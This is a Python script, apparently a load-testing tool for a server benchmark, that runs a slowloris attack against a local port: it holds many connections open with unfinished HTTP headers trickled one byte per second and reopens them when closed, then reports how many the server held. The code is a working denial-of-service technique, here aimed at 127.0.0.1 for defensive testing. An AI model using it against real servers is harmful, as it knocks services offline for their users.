#!/usr/bin/env python3
"""A slowloris attacker for the portal bench.

    slow_flood.py PORT SECONDS SOURCE:COUNT [SOURCE:COUNT ...]

Opens COUNT connections from each loopback SOURCE address to 127.0.0.1:PORT. Each sends the start
of a request and then one more header byte per second, never finishing it. A connection the
server closes (refused, or cut at its header deadline) is opened again a second later, as an
attacker would. One thread, one selector: the attacker is cheap, as a real one is.

Prints one line at the end: the average number of connections the server held open while the
flood ran, and how many times it closed one.
"""
import collections
import errno
import resource
import selectors
import socket
import sys
import time

port, seconds = int(sys.argv[1]), float(sys.argv[2])
plan = []
for spec in sys.argv[3:]:
    source, count = spec.rsplit(":", 1)
    plan += [source] * int(count)

sel = selectors.DefaultSelector()
conns = {}  # socket -> source
# (time, source), in time order: every retry waits the same second, so the oldest is due first.
# A deque, not a list filtered at each wake-up: the attacker wakes for every connection the server
# closes, and rebuilding a list of thousands each time made it spend seconds of CPU per window.
retry = collections.deque()
closes = 0


def open_one(source):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.bind((source, 0))
        err = s.connect_ex(("127.0.0.1", port))
        if err not in (0, errno.EINPROGRESS):
            raise OSError(err, "connect")
    except OSError:
        s.close()
        retry.append((time.monotonic() + 1, source))
        return
    conns[s] = [source, False]
    sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)


def drop(s):
    global closes
    source = conns.pop(s)[0]
    sel.unregister(s)
    s.close()
    closes += 1
    retry.append((time.monotonic() + 1, source))


for source in plan:
    open_one(source)

start = time.monotonic()
next_tick = start
samples = []
while time.monotonic() - start < seconds:
    for key, mask in sel.select(timeout=0.1):
        s = key.fileobj
        if s not in conns:
            continue
        if mask & selectors.EVENT_WRITE and not conns[s][1]:
            try:
                s.send(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
                conns[s][1] = True
                sel.modify(s, selectors.EVENT_READ)
            except OSError:
                drop(s)
            continue
        try:
            if not s.recv(4096):
                drop(s)
        except OSError:
            drop(s)
    now = time.monotonic()
    if now >= next_tick:
        next_tick = now + 1
        samples.append(sum(1 for v in conns.values() if v[1]))
        for s, (_, started) in list(conns.items()):
            if started:
                try:
                    s.send(b"a")
                except OSError:
                    drop(s)
    due = []
    while retry and retry[0][0] <= now:
        due.append(retry.popleft()[1])
    for source in due:
        open_one(source)

held = sum(samples[2:]) / max(1, len(samples[2:]))
cpu = resource.getrusage(resource.RUSAGE_SELF)
print(f"held {held:.0f}, closed {closes}, attacker CPU {cpu.ru_utime + cpu.ru_stime:.1f} s")
